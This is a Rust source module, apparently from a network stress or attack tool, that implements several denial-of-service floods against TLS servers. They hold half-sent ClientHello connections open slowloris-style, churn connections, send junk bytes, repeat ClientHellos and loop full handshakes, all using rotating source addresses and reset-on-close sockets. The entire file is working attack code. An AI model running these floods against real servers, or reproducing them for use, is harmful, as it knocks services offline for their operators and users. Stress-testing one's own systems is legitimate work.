//! Attacks on what comes before a client is known.

use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use super::Attack;
use crate::client::{Client, Sessions, dial};

/// A refused or exhausted attacker tries again after this.
const PAUSE: Duration = Duration::from_millis(1);
/// For an answer. Servers that are under attack may be slow.
const PATIENCE: Duration = Duration::from_secs(2);

/// Opens the next connection of an attacker; one that is closed with a reset, so that ports do not run out.
async fn open(attack: &Attack, number: &mut u32) -> Option<TcpStream> {
    *number = number.wrapping_add(attack.connections);
    let stream = dial(attack.target.address, attack.source(*number)).await;
    let Ok(stream) = stream else {
        sleep(PAUSE).await;
        return None;
    };
    let _ = stream.set_zero_linger();
    Some(stream)
}

pub(super) async fn begun(attack: &Attack, mut number: u32) -> Result<()> {
    /// Per attacker.
    const HELD: usize = 600;
    let mut held = std::collections::VecDeque::new();
    loop {
        if let Some(mut stream) = open(attack, &mut number).await {
            // A record of a ClientHello of 512 octets begins.
            let _ = stream.write_all(b"\x16\x03\x01\x02\x00\x01").await;
            held.push_back(stream);
        }
        if held.len() > HELD {
            held.pop_front();
            sleep(PAUSE).await;
        }
    }
}

pub(super) async fn churn(attack: &Attack, mut number: u32) -> Result<()> {
    loop {
        drop(open(attack, &mut number).await);
    }
}

pub(super) async fn garbage(attack: &Attack, mut number: u32) -> Result<()> {
    loop {
        if let Some(mut stream) = open(attack, &mut number).await {
            let _ = stream.write_all(&[0x41; 8192]).await;
            let _ = timeout(PATIENCE, stream.read(&mut [0; 64])).await;
        }
    }
}

pub(super) async fn hellos(attack: &Attack, mut number: u32) -> Result<()> {
    let hello = Client::new(&attack.target, b"h2", Sessions::Forget)?.hello()?;
    loop {
        if let Some(mut stream) = open(attack, &mut number).await {
            let _ = stream.write_all(&hello).await;
            let _ = timeout(PATIENCE, stream.read(&mut [0; 64])).await;
        }
    }
}

pub(super) async fn handshakes(attack: &Attack, mut number: u32) -> Result<()> {
    let client = Client::new(&attack.target, b"h2", Sessions::Forget)?;
    loop {
        number = number.wrapping_add(attack.connections);
        match client.connect_from(attack.source(number)).await {
            Ok(stream) => {
                let _ = stream.get_ref().0.set_zero_linger();
            }
            Err(_) => sleep(PAUSE).await,
        }
    }
}
